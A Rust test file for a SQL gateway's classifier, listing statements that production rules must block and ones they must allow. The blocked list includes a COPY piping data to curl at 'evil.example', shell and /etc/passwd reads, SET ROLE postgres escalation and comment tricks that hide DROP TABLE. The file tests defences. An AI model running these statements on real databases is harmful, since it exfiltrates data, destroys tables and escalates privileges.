//! The classifier over a large table of statements: what the default production rules must
//! catch, what they must let through, and a snapshot of the full classification of each.

use super::*;
use crate::config::Tier;
use crate::identity::{Identity, IdentityKind};
use crate::policy::{Action, Policy, Subject};

fn who(kind: IdentityKind) -> Identity {
    Identity {
        name: "someone".into(),
        kind,
        groups: vec!["engineers".into()],
        on_behalf_of: None,
        session_id: None,
    }
}

fn decide(policy: &Policy, kind: IdentityKind, tier: Tier, sql: &str) -> (Action, String) {
    let id = who(kind);
    let d = policy.decide(
        &Subject {
            identity: &id,
            environment: "prod",
            tier,
            tags: &[],
            search_path_changed: false,
        },
        sql,
    );
    (d.action, d.rule)
}

/// Statements the built-in production rules must stop, in both protocols (a Parse carries the
/// same text), and the rule that must stop each — for a person, the least restricted caller.
const CAUGHT: &[(&str, &str)] = &[
    ("DROP TABLE users", "prod-no-drop"),
    ("drop table if exists public.users cascade", "prod-no-drop"),
    ("DROP TABLE \"Users\"", "prod-no-drop"),
    ("DROP SCHEMA app CASCADE", "prod-no-drop"),
    ("DROP DATABASE appdb", "prod-no-drop"),
    ("DROP INDEX users_email_idx", "prod-no-drop"),
    ("DROP VIEW v", "prod-no-drop"),
    ("DROP FUNCTION f(int)", "prod-no-drop"),
    ("DROP OWNED BY bob", "prod-no-drop"),
    ("TRUNCATE users", "prod-no-drop"),
    ("TRUNCATE TABLE a, b RESTART IDENTITY", "prod-no-drop"),
    ("ALTER TABLE users DROP COLUMN email", "prod-no-drop"),
    (
        "ALTER TABLE users DROP CONSTRAINT users_pkey",
        "prod-no-drop",
    ),
    ("SELECT 1; DROP TABLE users", "prod-no-drop"),
    (
        "/* harmless */ SELECT 1; -- x\n drop table users;",
        "prod-no-drop",
    ),
    ("BEGIN; DROP TABLE users; COMMIT", "prod-no-drop"),
    (
        "PREPARE p AS DELETE FROM users",
        "prod-review-unbounded-write",
    ),
    ("GRANT ALL ON users TO public", "prod-no-grant"),
    ("GRANT admin TO bob", "prod-no-grant"),
    ("REVOKE SELECT ON users FROM bob", "prod-no-grant"),
    ("REASSIGN OWNED BY bob TO alice", "prod-no-grant"),
    (
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "prod-no-grant",
    ),
    ("CREATE ROLE bob SUPERUSER", "no-role-change"),
    ("CREATE USER bob PASSWORD 'x'", "no-role-change"),
    ("ALTER ROLE bob SUPERUSER", "no-role-change"),
    ("ALTER USER bob WITH PASSWORD 'x'", "no-role-change"),
    ("DROP ROLE bob", "prod-no-drop"),
    ("DROP USER bob", "prod-no-drop"),
    ("SET ROLE postgres", "no-role-change"),
    ("SET LOCAL ROLE postgres", "no-role-change"),
    ("SET role = 'postgres'", "no-role-change"),
    ("SET role TO postgres", "no-role-change"),
    ("SET SESSION AUTHORIZATION postgres", "no-role-change"),
    ("RESET ROLE", "no-role-change"),
    ("RESET SESSION AUTHORIZATION", "no-role-change"),
    ("RESET ALL", "no-role-change"),
    ("DISCARD ALL", "no-role-change"),
    (
        "SELECT set_config('role', 'postgres', false)",
        "no-role-change",
    ),
    (
        "SELECT pg_catalog.set_config('session_authorization', 'x', true)",
        "no-role-change",
    ),
    ("SELECT set_config($1, $2, false)", "no-role-change"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "no-alter-system"),
    ("alter system reset all", "no-alter-system"),
    ("COPY users TO '/tmp/users.csv'", "no-server-access"),
    ("COPY users FROM '/etc/passwd'", "no-server-access"),
    (
        "COPY users TO PROGRAM 'curl -d @- evil.example'",
        "no-server-access",
    ),
    (
        "COPY users FROM PROGRAM 'cat /etc/passwd'",
        "no-server-access",
    ),
    (
        "COPY (SELECT * FROM users) TO PROGRAM 'sh'",
        "no-server-access",
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        "no-server-access",
    ),
    (
        "SELECT pg_read_binary_file('global/pg_control')",
        "no-server-access",
    ),
    ("SELECT * FROM pg_ls_dir('.')", "no-server-access"),
    (
        "SELECT pg_stat_file('postgresql.conf')",
        "no-server-access",
    ),
    ("SELECT lo_import('/etc/passwd')", "no-server-access"),
    ("SELECT lo_export(16401, '/tmp/x')", "no-server-access"),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT pg_cancel_backend(123)",
        "prod-no-dangerous-functions",
    ),
    (
        "select PG_CATALOG.PG_TERMINATE_BACKEND(1)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT count(*) FROM t WHERE pg_terminate_backend(t.pid)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT * FROM dblink('host=x', 'DROP TABLE users') AS t(a int)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT dblink_exec('host=x', 'DROP TABLE users')",
        "prod-no-dangerous-functions",
    ),
    ("SELECT pg_reload_conf()", "prod-no-dangerous-functions"),
    ("SELECT pg_rotate_logfile()", "prod-no-dangerous-functions"),
    (
        "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')",
        "prod-no-dangerous-functions",
    ),
    (
        "WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT (SELECT pg_cancel_backend(1))",
        "prod-no-dangerous-functions",
    ),
    ("DELETE FROM users", "prod-review-unbounded-write"),
    (
        "DELETE FROM users WHERE true",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE 1 = 1",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE 'a' = 'a'",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id = id",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id = 5 OR true",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE (1 = 1)",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE EXISTS (SELECT 1)",
        "prod-review-unbounded-write",
    ),
    (
        "UPDATE users SET admin = true",
        "prod-review-unbounded-write",
    ),
    (
        "UPDATE users SET admin = true WHERE 1=1",
        "prod-review-unbounded-write",
    ),
    (
        "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d",
        "prod-review-unbounded-write",
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM users",
        "prod-review-unbounded-write",
    ),
    (
        "EXPLAIN (ANALYZE) UPDATE users SET a = 1",
        "prod-review-unbounded-write",
    ),
    (
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "prod-review-unanalysable",
    ),
    (
        "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
        "prod-review-unanalysable",
    ),
    ("EXECUTE p(1)", "prod-review-unanalysable"),
    ("CALL cleanup()", "prod-review-unanalysable"),
    ("SELEC * FROM users", "prod-review-unanalysable"),
    (
        "SELECT 1; VACUUM FULL users; FROBNICATE",
        "prod-review-unanalysable",
    ),
    // With standard_conforming_strings = off, PostgreSQL reads this as a SELECT of one string
    // followed by DROP TABLE: both readings count.
    (
        "SELECT 'a\\'; SELECT ' ; DROP TABLE users; --'",
        "prod-no-drop",
    ),
    // Issue 17, class 1: the text is read as PostgreSQL's scanner reads it.
    // A bare carriage return ends a `--` comment.
    ("SELECT 1 --x\r; DROP TABLE users", "prod-no-drop"),
    (
        "SELECT 1 --x\r, pg_terminate_backend(1)",
        "prod-no-dangerous-functions",
    ),
    // N'…' follows standard_conforming_strings like '…'.
    (
        "SELECT N'a\\'; SELECT ' ; DROP TABLE users; --'",
        "prod-no-drop",
    ),
    (
        "SELECT 'a\\'', pg_terminate_backend(1) --'",
        "prod-no-dangerous-functions",
    ),
    // Nested comments close where PostgreSQL closes them.
    ("SELECT 1 /* /* */ */; DROP TABLE users", "prod-no-drop"),
    ("SELECT $é$;$é$; DROP TABLE users", "prod-no-drop"),
    ("SELECT 1 AS é; DROP TABLE users", "prod-no-drop"),
    // Class 2: names, not facts.
    ("SET \"ROLE\" = postgres", "no-role-change"),
    ("SET \"role\" TO postgres", "no-role-change"),
    ("SET SESSION \"role\" TO postgres", "no-role-change"),
    ("SET LOCAL \"Role\" = postgres", "no-role-change"),
    ("SET \"session_authorization\" = postgres", "no-role-change"),
    ("RESET \"role\"", "no-role-change"),
    ("RESET \"ROLE\"", "no-role-change"),
    (
        "SELECT set_config('ROLE', 'postgres', false)",
        "no-role-change",
    ),
    (
        "SELECT * FROM set_config('role', 'postgres', false)",
        "no-role-change",
    ),
    (
        "SELECT * FROM users, LATERAL set_config('role', 'postgres', false) s",
        "no-role-change",
    ),
    (
        "SELECT 1 WHERE set_config('role', 'postgres', false) IS NOT NULL",
        "no-role-change",
    ),
    (
        "VALUES (set_config('role', 'postgres', false))",
        "no-role-change",
    ),
    (
        "SELECT length(set_config('role', 'postgres', false))",
        "no-role-change",
    ),
    (
        "WITH r AS (SELECT set_config('role', 'postgres', false)) SELECT * FROM r",
        "no-role-change",
    ),
    (
        "SELECT set_config(E'\\x72ole', 'postgres', false)",
        "no-role-change",
    ),
    (
        "SELECT set_config('ro' || 'le', 'postgres', false)",
        "no-role-change",
    ),
    (
        "SELECT query_to_xmlschema('DELETE FROM users RETURNING *', true, true, '')",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT query_to_xml_and_xmlschema('DELETE FROM users RETURNING *', true, true, '')",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT * FROM ts_stat('DELETE FROM users RETURNING to_tsvector(name)')",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT ts_rewrite('a'::tsquery, 'DELETE FROM users RETURNING 1')",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT dblink_connect('host=x')",
        "prod-no-dangerous-functions",
    ),
    ("SELECT setval('orders_id_seq', 1)", "prod-review-unvetted-functions"),
    ("SELECT lo_unlink(16401)", "prod-review-unvetted-functions"),
    (
        "SELECT lo_from_bytea(0, 'x')",
        "prod-review-unvetted-functions",
    ),
    ("SELECT lo_put(16401, 0, 'x')", "prod-review-unvetted-functions"),
    ("SELECT lo_create(0)", "prod-review-unvetted-functions"),
    ("SELECT lo_creat(-1)", "prod-review-unvetted-functions"),
    ("SELECT lo_truncate(0, 0)", "prod-review-unvetted-functions"),
    (
        "SELECT pg_advisory_lock(1)",
        "prod-review-unvetted-functions",
    ),
    (
        "SELECT pg_temp.lower('x')",
        "prod-review-unvetted-functions",
    ),
    (
        "SELECT \"coalesce\"(1)",
        "prod-review-unvetted-functions",
    ),
    (
        "SELECT public.archive_everything()",
        "prod-review-unvetted-functions",
    ),
    (
        "SELECT * FROM users WHERE purge_user(id)",
        "prod-review-unvetted-functions",
    ),
    (
        "SELECT * FROM my_report(1)",
        "prod-review-unvetted-functions",
    ),
    (
        "EXPLAIN SELECT my_immutable_wrapper(1)",
        "prod-review-unvetted-functions",
    ),
    (
        "CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS $$ DELETE FROM users RETURNING 1 $$; SELECT pg_temp.f()",
        "prod-review-code",
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "prod-review-code",
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM users $$",
        "prod-review-unanalysable",
    ),
    (
        "CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION f()",
        "prod-review-code",
    ),
    ("CREATE EXTENSION dblink", "prod-review-code"),
    ("LOAD 'auto_explain'", "prod-review-code"),
    // Class 3: writes by meaning.
    (
        "MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE",
        "prod-review-unbounded-write",
    ),
    (
        "MERGE INTO users u USING staging s ON true WHEN MATCHED THEN UPDATE SET name = s.name",
        "prod-review-unbounded-write",
    ),
    (
        "INSERT INTO users SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET name = EXCLUDED.name",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id IS NOT NULL",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE true OR id = 1",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE 1 IN (1)",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id <> 0",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE NOT (id = 0)",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id IN (id)",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id BETWEEN id AND id",
        "prod-review-unbounded-write",
    ),
    (
        "UPDATE users SET admin = true WHERE name LIKE '%'",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM t WHERE id IN (SELECT id FROM u)",
        "prod-review-unbounded-write",
    ),
    // A join bounds nothing by itself: the other table may match every row.
    (
        "UPDATE users u SET name = s.name FROM staging s WHERE s.id = u.id",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM t USING u WHERE t.id = u.id",
        "prod-review-unbounded-write",
    ),
    (
        "ALTER TABLE users ALTER COLUMN email TYPE int USING 0",
        "prod-no-drop",
    ),
    (
        "ALTER TABLE users ALTER email SET DATA TYPE varchar(3)",
        "prod-no-drop",
    ),
    (
        "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
        "prod-no-grant",
    ),
    (
        "ALTER TABLE users NO FORCE ROW LEVEL SECURITY",
        "prod-no-grant",
    ),
    ("ALTER TABLE users OWNER TO mallory", "prod-no-grant"),
    ("ALTER FUNCTION f() OWNER TO mallory", "prod-no-grant"),
    ("ALTER FUNCTION f() SECURITY DEFINER", "prod-no-grant"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
        "prod-no-grant",
    ),
    (
        "ALTER POLICY p ON users USING (true)",
        "prod-no-grant",
    ),
    ("DROP POLICY p ON users", "prod-no-drop"),
    (
        "CREATE POLICY p ON users USING (true)",
        "prod-no-grant",
    ),
    ("ALTER TABLE users DISABLE TRIGGER ALL", "prod-no-grant"),
    ("LOCK users", "prod-review-blocking-lock"),
    ("LOCK TABLE users", "prod-review-blocking-lock"),
    ("LOCK TABLE users IN SHARE MODE", "prod-review-blocking-lock"),
    (
        "LOCK TABLE users IN SHARE ROW EXCLUSIVE MODE NOWAIT",
        "prod-review-blocking-lock",
    ),
    (
        "LOCK TABLE ONLY users IN EXCLUSIVE MODE",
        "prod-review-blocking-lock",
    ),
    (
        "ALTER DATABASE appdb SET search_path = evil",
        "no-alter-system",
    ),
    (
        "ALTER DATABASE appdb RESET ALL",
        "no-alter-system",
    ),
    (
        "ALTER ROLE app_owner SET search_path = evil",
        "no-role-change",
    ),
    // XML labels are dropped, the calls inside still count.
    (
        "SELECT xmlelement(name x, pg_terminate_backend(1))",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT xmlforest(lo_unlink(1) AS x)",
        "prod-review-unvetted-functions",
    ),
    // Class 6: literals that change a verdict are part of what is cached.
    (
        "EXPLAIN (ANALYZE 1) DELETE FROM users",
        "prod-review-unbounded-write",
    ),
    // Class 7: a statement prepared in the same string is what EXECUTE runs.
    (
        "PREPARE p AS DELETE FROM users; EXECUTE p",
        "prod-review-unbounded-write",
    ),
];

/// Statements the built-in production rules must let a person run.
const PASSES: &[&str] = &[
    "SELECT 1",
    "select * from users where id = 42",
    "SELECT * FROM users WHERE note = 'drop table users'",
    "SELECT 'DROP TABLE users; GRANT ALL ON x TO y'",
    "SELECT $$ TRUNCATE users $$",
    "SELECT * FROM drop_log",
    "SELECT * FROM truncate_history, grant_requests",
    "SELECT \"drop\" FROM \"DROP TABLE\"",
    "SELECT id -- DROP TABLE users\nFROM users",
    "SELECT id /* ; DROP TABLE users; */ FROM users",
    "SELECT * FROM files WHERE path LIKE 'C:\\\\tmp%'",
    "SELECT E'it\\'s; DROP TABLE users'",
    "SELECT * FROM public.users u JOIN app.orders o ON o.user_id = u.id",
    "SELECT \"Order Id\", \"user\".\"Name\" FROM \"user\"",
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
    "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t",
    "SELECT id, row_number() OVER (PARTITION BY account ORDER BY ts DESC) FROM events",
    "SELECT sum(amount) OVER w FROM payments WINDOW w AS (PARTITION BY user_id)",
    "SELECT data->>'email', data#>'{a,b}', data @> '{\"x\":1}' FROM docs WHERE data ? 'email'",
    "SELECT jsonb_build_object('a', 1), to_jsonb(u) FROM users u",
    "SELECT * FROM users WHERE id = ANY($1)",
    "SELECT * FROM users WHERE email ILIKE $1 LIMIT $2 OFFSET $3",
    "SELECT count(*) FILTER (WHERE active) FROM users",
    "SELECT * FROM generate_series(1, 10) g",
    "SELECT * FROM unnest(ARRAY[1,2]) AS x(n)",
    "SELECT current_setting('search_path')",
    "SELECT set_config('search_path', 'app, public', false)",
    "SELECT pg_sleep(0.1)",
    "SELECT nextval('orders_id_seq')",
    "SELECT * FROM pg_stat_activity",
    "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
    "SELECT a::text, CAST(b AS int) FROM t",
    "SELECT * FROM t1 UNION SELECT * FROM t2",
    "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE x = 1)",
    "SELECT * FROM t FOR UPDATE",
    "TABLE users",
    "VALUES (1, 'a'), (2, 'b')",
    "SHOW search_path",
    "SET search_path = app, public",
    "SET statement_timeout TO '5s'",
    "SET application_name = 'drop table'",
    "RESET statement_timeout",
    "BEGIN",
    "BEGIN ISOLATION LEVEL SERIALIZABLE",
    "START TRANSACTION READ ONLY",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT a",
    "RELEASE SAVEPOINT a",
    "ROLLBACK TO SAVEPOINT a",
    "EXPLAIN SELECT * FROM users",
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (FORMAT JSON) SELECT * FROM users",
    "EXPLAIN ANALYZE SELECT * FROM users",
    "PREPARE q AS SELECT * FROM users WHERE id = $1",
    "DEALLOCATE q",
    "DEALLOCATE ALL",
    "INSERT INTO users (email, name) VALUES ('a@b.c', 'A')",
    "INSERT INTO audit.events SELECT * FROM staging.events WHERE ts > now() - interval '1 hour'",
    "INSERT INTO t VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v",
    "UPDATE users SET name = 'x' WHERE id = 1",
    "UPDATE users SET name = $1 WHERE id = $2 RETURNING *",
    "UPDATE users u SET name = s.name FROM staging s WHERE s.id = u.id AND s.batch = 7",
    "UPDATE users SET a = 1 WHERE id = 5 AND true",
    "DELETE FROM sessions WHERE expires_at < now()",
    "DELETE FROM t USING u WHERE t.id = u.id AND u.batch = $1",
    "DELETE FROM users WHERE id IN (1, 2, 3)",
    "DELETE FROM users WHERE id = ANY($1)",
    "DELETE FROM users WHERE created_at BETWEEN $1 AND $2",
    "DELETE FROM users WHERE (id = 1 OR id = 2) AND true",
    "UPDATE users SET a = 1 WHERE 5 = id",
    "MERGE INTO users u USING staging s ON u.id = s.id AND u.id = 5 WHEN MATCHED THEN UPDATE SET name = s.name",
    "MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
    "INSERT INTO users (id, name) VALUES (1, 'a') ON CONFLICT (id) DO NOTHING",
    "ALTER TABLE users RENAME COLUMN owner TO owned_by",
    "ALTER TABLE users ENABLE ROW LEVEL SECURITY",
    "SELECT set_config('search_path', '', false)",
    "SELECT pg_catalog.set_config('search_path', 'app', false)",
    "SELECT pg_catalog.lower('X'), upper('x'), coalesce(NULL, 1), greatest(1, 2), now(), current_user",
    "SELECT random(), gen_random_uuid(), clock_timestamp(), pg_backend_pid(), txid_current()",
    "SELECT c.relname, pg_catalog.pg_get_userbyid(c.relowner), pg_catalog.format_type(a.atttypid, a.atttypmod), pg_catalog.pg_get_expr(d.adbin, d.adrelid), pg_catalog.obj_description(c.oid, 'pg_class'), pg_catalog.pg_table_is_visible(c.oid), array_to_string(c.relacl, ',') FROM pg_catalog.pg_class c JOIN pg_catalog.pg_attribute a ON a.attrelid = c.oid LEFT JOIN pg_catalog.pg_attrdef d ON d.adrelid = c.oid",
    "SELECT pg_catalog.pg_size_pretty(pg_catalog.pg_table_size(c.oid)) FROM pg_catalog.pg_class c",
    "SELECT 1 --x\r",
    "SELECT 1 /* /* */ ; DROP TABLE users; */",
    "SELECT N'it''s; DROP TABLE users'",
    "SELECT U&'d\\0061t\\+000061; DROP TABLE users'",
    "SELECT $a$ ; DROP TABLE users; $a$",
    "FETCH ALL c",
    "FETCH ALL FROM c",
    "SELECT xmlelement(name person, xmlattributes(u.id AS \"id\", u.name), xmlforest(u.email AS mail, CAST(u.age AS text) AS age)) FROM users u",
    "SELECT xmlelement(NAME empty)",
    "FETCH FORWARD 5 IN c",
    "MOVE NEXT IN c",
    "MOVE ABSOLUTE -1 FROM c",
    "PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(1)",
    "WITH moved AS (DELETE FROM queue WHERE id = $1 RETURNING *) INSERT INTO done SELECT * FROM moved",
    "COPY users TO STDOUT WITH (FORMAT csv)",
    "COPY (SELECT * FROM users) TO STDOUT",
    "COPY users (id, email) FROM STDIN",
    "CREATE TABLE t (id int PRIMARY KEY, note text DEFAULT 'drop table')",
    "CREATE INDEX CONCURRENTLY ON users (email)",
    "ALTER TABLE users ADD COLUMN nickname text",
    "CREATE VIEW v AS SELECT id FROM users",
    "SELECT * INTO TEMP t2 FROM users",
    "LISTEN jobs",
    "NOTIFY jobs, 'x'",
    "VACUUM ANALYZE users",
    "LOCK TABLE users IN ACCESS SHARE MODE",
    "LOCK TABLE users IN ROW SHARE MODE",
    "LOCK TABLE users IN ROW EXCLUSIVE MODE",
    "LOCK TABLE users IN SHARE UPDATE EXCLUSIVE MODE",
    "DECLARE c CURSOR FOR SELECT * FROM users",
    "FETCH 10 FROM c",
    "CLOSE c",
    "",
    ";;",
    "-- only a comment",
];

#[test]
fn production_rules_catch_every_dangerous_form() {
    let policy = Policy::default();
    let mut failures = Vec::new();
    for (sql, rule) in CAUGHT {
        let (action, got) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
        if got != *rule || action == Action::Allow {
            failures.push(format!("{sql:?}: expected {rule}, got {action:?} by {got}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn production_rules_let_safe_statements_through() {
    let policy = Policy::default();
    let mut failures = Vec::new();
    for sql in PASSES {
        let (action, rule) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
        if action != Action::Allow {
            failures.push(format!("{sql:?}: {action:?} by {rule}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn agents_need_approval_for_any_write_in_production_but_not_for_reads() {
    let policy = Policy::default();
    for sql in PASSES {
        let c = classify(sql);
        let (action, rule) = decide(&policy, IdentityKind::Agent, Tier::Production, sql);
        let expected = if c.writes {
            Action::Review
        } else {
            Action::Allow
        };
        assert_eq!(action, expected, "{sql:?} (rule {rule})");
    }
    // Outside production only the rules that keep the gateway itself in charge apply: the
    // role, the server's configuration, its files and programs.
    const EVERY_TIER: &[&str] = &["no-role-change", "no-alter-system", "no-server-access"];
    for (sql, rule) in CAUGHT {
        let c = classify(sql);
        let (action, decided_by) = decide(&policy, IdentityKind::Agent, Tier::Staging, sql);
        let escapes = c.role_change
            || c.alter_system
            || c.persistent_setting
            || c.server_file_access
            || c.program_access;
        assert!(escapes || !EVERY_TIER.contains(rule), "{sql:?}");
        if escapes {
            assert_eq!(action, Action::Deny, "{sql:?}");
            assert!(
                EVERY_TIER.contains(&decided_by.as_str()),
                "{sql:?}: {decided_by}"
            );
        } else {
            assert_eq!(action, Action::Allow, "{sql:?}");
        }
    }
}

#[test]
fn every_caught_statement_is_caught_the_same_way_from_the_cache() {
    let policy = Policy::default();
    for _ in 0..2 {
        for (sql, rule) in CAUGHT {
            let (_, got) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
            assert_eq!(got, *rule, "{sql:?}");
        }
    }
}

/// One line per statement: everything the classifier found, compactly.
fn summary(sql: &str) -> String {
    let c = classify(sql);
    let mut parts = vec![format!(
        "cmd=[{}]",
        c.statements
            .iter()
            .map(|s| s.command.as_str())
            .collect::<Vec<_>>()
            .join(", ")
    )];
    let list =
        |name: &str, v: &[String]| (!v.is_empty()).then(|| format!("{name}=[{}]", v.join(", ")));
    parts.extend(list("read", &c.tables_read));
    parts.extend(list("written", &c.tables_written));
    parts.extend(list("cols", &c.columns_read));
    parts.extend(list("set", &c.columns_written));
    parts.extend(list("unbounded", &c.unbounded_writes));
    parts.extend(list("fns", &c.dangerous_functions));
    parts.extend(list("unvetted", &c.unvetted_functions));
    parts.extend(list("settings", &c.settings));
    if c.each.len() > 1 {
        parts.push(format!("each={}", c.each.len()));
    }
    for (flag, on) in [
        ("writes", c.writes),
        ("UNANALYSABLE", !c.analysable),
        ("cte-write", c.data_modifying_cte),
        ("select-into", c.select_into),
        ("explain-analyze-write", c.explain_analyze_write),
        ("destructive", c.destructive),
        ("privileges", c.privilege_change),
        ("role", c.role_change),
        ("alter-system", c.alter_system),
        ("server-file", c.server_file_access),
        ("program", c.program_access),
        ("defines-code", c.defines_code),
        ("blocking-lock", c.blocking_lock),
        ("persistent-setting", c.persistent_setting),
    ] {
        if on {
            parts.push(flag.into());
        }
    }
    format!("{sql}\n    {}", parts.join(" "))
}

#[test]
fn classification_snapshot() {
    let all: Vec<String> = CAUGHT
        .iter()
        .map(|(s, _)| *s)
        .chain(PASSES.iter().copied())
        .map(summary)
        .collect();
    insta::assert_snapshot!(all.join("\n"));
}

#[test]
fn names_are_folded_like_postgresql_and_ctes_are_not_tables() {
    let c = classify(
        "WITH Recent AS (SELECT * FROM App.\"Orders\") SELECT r.id FROM recent r JOIN Users u ON u.id = r.user_id",
    );
    assert_eq!(c.tables_read, ["app.Orders", "users"]);
    assert!(c.tables_written.is_empty());
    assert_eq!(c.columns_read, ["*", "r.id", "r.user_id", "u.id"]);
}

#[test]
fn several_statements_are_each_classified() {
    let c = classify("SELECT 1; UPDATE t SET a = 1 WHERE id = 2; DO $$ x $$; SELECT 'a;b'");
    assert_eq!(
        c.kinds,
        [
            StatementKind::Select,
            StatementKind::Update,
            StatementKind::Do
        ]
    );
    assert_eq!(c.statements.len(), 4);
    assert!(!c.analysable);
    assert!(c.unbounded_writes.is_empty());
    assert_eq!(c.tables_written, ["t"]);
}

#[test]
fn odd_input_never_panics() {
    for s in [
        "'unterminated",
        "$$ open",
        "/* open",
        "é ∑ 💥",
        "SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))",
        "\0",
        "SELECT 1 +",
        ";",
    ] {
        let _ = classify(s);
    }
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(!classify(&deep).analysable);
}

mod properties {
    //! Properties over generated text: the classifier never panics, and two statements of one
    //! shape classify alike unless the classification says a literal matters (class 6 of
    //! issue 17: the cache shares a classification between them).
    use super::*;
    use proptest::prelude::*;

    /// Pieces PostgreSQL's scanner treats specially, glued at random.
    fn sqlish() -> impl Strategy<Value = String> {
        prop::collection::vec(
            prop::sample::select(vec![
                "SELECT ",
                "'",
                "\"",
                "$$",
                "$a$",
                "--",
                "\r",
                "\n",
                "/*",
                "*/",
                ";",
                "E'",
                "N'",
                "U&'",
                "\\",
                "DROP TABLE t",
                " ",
                "(",
                ")",
                "set_config('role','x',false)",
                "é",
                "x",
                "1",
                ",",
                "EXPLAIN (ANALYZE 1) ",
                "DELETE FROM t",
                " WHERE ",
                "=",
                "::",
                "UESCAPE",
                "$1",
                "PREPARE p AS ",
                "EXECUTE p",
                "LOCK t",
                "MERGE",
                "FETCH ALL c",
            ]),
            0..40,
        )
        .prop_map(|v| v.concat())
    }

    const TEMPLATES: &[&str] = &[
        "EXPLAIN (ANALYZE {}) DELETE FROM users",
        "EXPLAIN (ANALYZE {}, FORMAT JSON) UPDATE t SET a = {}",
        "SELECT set_config({}, {}, false)",
        "SELECT * FROM set_config({}, {}, false)",
        "SELECT table_to_xml({}, true, false, '')",
        "SELECT query_to_xml({}, true, true, '')",
        "DELETE FROM users WHERE id = {} OR {} = {}",
        "UPDATE users SET a = {} WHERE id IN ({}, {})",
        "SET statement_timeout = {}",
        "SELECT * FROM t WHERE a BETWEEN {} AND {}",
        "SELECT {}::regclass, pg_sleep({})",
        "MERGE INTO t USING s ON t.id = {} WHEN MATCHED THEN DELETE",
        "PREPARE p AS SELECT {}; EXECUTE p",
        "COPY t TO STDOUT (FORMAT {})",
        "SELEC {} FROM t",
        "INSERT INTO t VALUES ({}) ON CONFLICT (id) DO UPDATE SET v = {}",
    ];

    /// Two literals of one form (the shape key keeps the form, not the value).
    fn literal_pair() -> impl Strategy<Value = (&'static str, &'static str)> {
        const FORMS: &[&[&str]] = &[
            &["0", "1", "-1", "1.5", "1e3"],
            &[
                "'role'",
                "'ROLE'",
                "'session_authorization'",
                "'search_path'",
                "'on'",
                "'off'",
                "'true'",
                "'false'",
                "'0'",
                "'payroll.salaries'",
                "'public.x'",
                "'DELETE FROM users'",
                "'x'",
                "'csv'",
                "'binary'",
            ],
            &["$$role$$", "$$x$$", "$$search_path$$"],
            &["E'role'", "E'\\x72ole'", "E'x'"],
            &["U&'role'", "U&'x'"],
            &["$1", "$2"],
        ];
        (0..FORMS.len()).prop_flat_map(|f| {
            (
                prop::sample::select(FORMS[f].to_vec()),
                prop::sample::select(FORMS[f].to_vec()),
            )
        })
    }

    proptest! {
